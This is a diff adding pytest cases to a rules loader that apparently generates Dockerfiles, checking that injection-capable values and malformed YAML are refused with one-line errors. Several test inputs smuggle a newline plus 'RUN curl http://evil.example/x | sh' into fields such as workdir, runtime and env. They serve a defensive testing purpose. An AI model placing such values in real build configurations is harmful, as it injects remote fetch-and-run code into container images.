@@ -90,6 +90,26 @@ def test_builtin_rules_cover_the_catalogue() -> None:
     ('chainguard:\n  python: {user: "root\\nRUN x"}\n', "user"),
     ('chainguard:\n  python: {workdir: "/app dir"}\n', "workdir"),
     ('chainguard:\n  python: {packages: ["glibc", "x y"]}\n', "packages"),
+    # second adversarial round, B1: the other fields that reach the output
+    ('upstream:\n  - match: python\n    workdir: "/srv\\nRUN curl http://evil.example/x | sh\\n#"\n', "workdir"),
+    ('upstream:\n  - match: python\n    workdir: "/my app"\n', "workdir"),
+    ('upstream:\n  - match: python\n    cmd: ["python", "a\\nRUN x"]\n', "cmd"),
+    ('upstream:\n  - match: python\n    entrypoint: ["x"]\n    frobnicate: 1\n', "unknown key"),
+    ('languages:\n  python: {programs: [python], builder: "python:latest-dev", '
+     'runtime: "python:latest\\nRUN curl x | sh\\n#"}\n', "runtime"),
+    ('languages:\n  python: {programs: [python], builder: "python:{version}-dev", runtime: "python:latest"}\n',
+     "builder"),
+    ('languages:\n  python: {programs: [python], builder: a, runtime: b, on_base: ["py thon"]}\n', "on_base"),
+    ('dockerhub_paths:\n  /opt/tools:\n    why: x\n    env: {TOOLS: "/opt/tools\\nRUN curl x | sh\\n#"}\n', "TOOLS"),
+    ('dockerhub_paths:\n  /opt/tools:\n    env: {"A B": x}\n', "variable name"),
+    ('dockerhub_paths:\n  /opt/tools: "why\\n::error::forged"\n', "one line of text"),
+    ('dockerhub_paths:\n  "/opt/my tools": why\n', "dockerhub_paths key"),
+    ('chainguard:\n  python: {env: {A: "x\\nRUN y"}}\n', "env"),
+    ('chainguard:\n  python: {env: {A: \'"quoted"\'}}\n', "env"),
+    ('chainguard:\n  python: {shell_partner: "wolfi-base\\nRUN x"}\n', "shell_partner"),
+    ('chainguard:\n  python: {paths: {site: "/x\\ny"}}\n', "paths"),
+    ('chainguard:\n  python: {known: "yes"}\n', "known"),
+    ('busybox_applets: [sh, "a b"]\n', "busybox_applets"),
 ])
 def test_rules_values_that_could_inject_are_refused(tmp_path: Path, text: str, expected: str) -> None:
     path = write(tmp_path, text)
@@ -133,3 +153,34 @@ def test_the_compiled_rules_cache_keeps_every_field(tmp_path: Path, monkeypatch:
     monkeypatch.setattr(loader, "_cache", {})
     assert list((tmp_path / "migrator").glob("rules-*.marshal"))
     assert load_rules() == first == built  # read back
+
+
+# Second adversarial round, C3: values of the wrong type are one line naming the file, not an internal error
+@pytest.mark.parametrize(("text", "expected"), [
+    ("languages: [1]\n", "languages: [1] is not a mapping"),
+    ("languages: {py: {programs: 5, builder: a, runtime: b}}\n", "programs: 5 is not a list"),
+    ("dockerhub_paths: [1]\n", "dockerhub_paths: [1] is not a mapping"),
+    ("upstream: [{match: python, tags: 5}]\n", "tags: 5 is not a pattern"),
+    ("upstream: [{match: python, entrypoint: 5}]\n", "entrypoint: 5 is not a list"),
+    ("upstream: 5\n", "upstream: 5 is not a list"),
+    ("images: [{match: python, ecosystem: python, tags: 5}]\n", "'tags': 5 is not a pattern"),
+    ("images: 5\n", "images: 5 is not a list"),
+    ("chainguard: [1]\n", "chainguard: [1] is not a mapping"),
+    ("chainguard:\n  python: {paths: [1]}\n", "paths: [1] is not a mapping"),
+    ("family: debian\npackages:\n  libpq-dev: {to: 5}\n", "is not a list of Wolfi package names"),
+    ("a: " + "[" * 5000 + "]" * 5000 + "\n", "nested more than 64 levels deep"),
+    ("x: &a [1, 2]\ny: [*a, *a]\n", "aliases are not allowed"),
+])
+def test_rules_values_of_the_wrong_type_are_one_line(tmp_path: Path, text: str, expected: str) -> None:
+    path = write(tmp_path, text)
+    with pytest.raises(MigratorError) as error:
+        load_rules((path,))
+    assert str(path) in str(error.value) and expected in str(error.value)
+    assert "\n" not in str(error.value) and len(str(error.value)) < 400
+
+
+def test_a_huge_wrong_value_is_shown_cut_short(tmp_path: Path) -> None:
+    path = write(tmp_path, "busybox_applets: [" + ", ".join(["'a b'"] * 20000) + "]\n")
+    with pytest.raises(MigratorError) as error:
+        load_rules((path,))
+    assert len(str(error.value)) < 400
